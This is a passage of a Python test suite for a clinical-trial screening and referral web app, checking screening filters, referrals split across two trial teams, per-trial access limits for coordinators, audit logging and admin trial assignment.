    ended = client.get("/screenings?verdict=likely_ineligible").get_data(as_text=True)
    assert "1–5 of 5 screenings matching" in ended and '<option value="likely_ineligible" selected>' in ended
    assert ended.count(f"Ended by: {spread}") == 3 and ended.count(f"Ended by: {protocol.by_id['age'].short}") == 2
    opened = client.get("/screenings?status=in_progress&page=1").get_data(as_text=True)
    assert "1–45 of 45" in opened and f"At: {protocol.by_id[order[1]].short}" in opened and "In progress" in opened
    assert "4 of 4" in client.get("/screenings?verdict=open&status=stopped").get_data(as_text=True)

    # more screenings ended by age: the count is worked out again
    save_screenings(protocol, 2, {"age": 80}, verdict="likely_ineligible", prefix="older")
    page = client.get("/screenings").get_data(as_text=True)
    assert f"most often ends a screening: <strong>{protocol.by_id['age'].short}</strong> (4)" in page


def two_teams_referrals():
    """A conversation referred to both recurrent-NPC trials (issue 18): one referral per trial."""
    from bot.protocol import load_protocol

    protocol = load_protocol("NCT04143984")
    answers = {**referral_state().answers, "one_radiotherapy_course": RecordedAnswer("yes", "yes"),
               "npc_who_type": RecordedAnswer("not_sure", "no idea"),
               "severe_organ_dysfunction": RecordedAnswer("no", "no")}
    state = referral_state(answers=answers, catalogue=("NCT04533620",), teams=("NCT04143984", "NCT04533620"),
                           trial_verdicts={"NCT04143984": "needs_review", "NCT04533620": "needs_review"})
    made = referrals.create_referrals("volunteer-two-teams", protocol, state)
    other = referrals.create_referral("volunteer-first-only", protocol, referral_state())
    return made, other


def test_a_coordinator_limited_to_one_trial_never_sees_another_team_s_referrals(app):
    made, other = two_teams_referrals()
    assert users_command("trials", "maria", "NCT04533620") == 0
    client = logged_in(app)
    inbox = client.get("/").get_data(as_text=True)
    assert made["NCT04533620"] in inbox and made["NCT04143984"] not in inbox and other not in inbox
    own = client.get(f"/referrals/{made['NCT04533620']}").get_data(as_text=True)
    # the conversation also screened NCT04143984: its transcript (that trial's answers too) is not shown here
    assert "shown only to staff who see all of them" in own and "NCT04143984" in own
    assert "shown only to staff" not in logged_in(app, "ada").get(f"/referrals/{made['NCT04533620']}").get_data(
        as_text=True)
    token = csrf(client, "/")
    for reference in (made["NCT04143984"], other):
        assert client.get(f"/referrals/{reference}").status_code == 404
        assert client.post(f"/referrals/{reference}", data={"status": "contacted", "csrf_token": token}
                           ).status_code == 404
        assert client.post(f"/referrals/{reference}/attempts", data={
            "channel": "phone", "outcome": "no_answer", "csrf_token": token}).status_code == 404
        assert status_of(reference) == ("new", None) and attempts_of(reference) == []
    assert ("maria", "refused_other_trial", f"referral {other}") in audit_rows()
    exported = client.get("/referrals.csv").get_data(as_text=True)
    assert made["NCT04533620"] in exported and made["NCT04143984"] not in exported and other not in exported
    assert client.get("/screenings").status_code == 200 and client.get("/report").status_code == 200
    # the referral carries only the answers its own trial asks
    with store.unit_of_work() as db:
        sent = db.execute(select(store.Referral).where(store.Referral.reference == made["NCT04533620"])).scalar_one()
        assert {a["criterion_id"] for a in sent.answers} == {
            "age", "npc_who_type", "recurrence_interval", "one_radiotherapy_course", "ecog", "blood_counts",
            "organ_function", "contraception", "consent_capacity", "distant_metastasis", "measurable_lesion",
            "prior_malignancy", "severe_organ_dysfunction"}
    # an admin sees every trial; a coordinator set back to every trial too
    admin_inbox = logged_in(app, "ada").get("/").get_data(as_text=True)
    assert all(r in admin_inbox for r in (*made.values(), other))
    assert users_command("trials", "maria") == 0
    again = logged_in(app).get("/").get_data(as_text=True)
    assert all(r in again for r in (*made.values(), other))


def test_trials_are_set_on_the_users_page_and_unknown_ids_refused(app):
    admin = logged_in(app, "ada")
    token = csrf(admin, "/admin/users")
    done = admin.post("/admin/users/trials", data={"username": "maria", "trials": "NCT04533620, NCT06846450",
                                                   "csrf_token": token})
    assert done.status_code == 302
    page = admin.get("/admin/users").get_data(as_text=True)
    assert "NCT04533620, NCT06846450" in page
    refused = admin.post("/admin/users/trials", data={"username": "maria", "trials": "NCT00000000",
                                                      "csrf_token": token}, follow_redirects=True)
    assert "no such trial: NCT00000000" in refused.get_data(as_text=True)
    assert ("ada", "trials_changed", "user maria: NCT04533620, NCT06846450") in audit_rows()
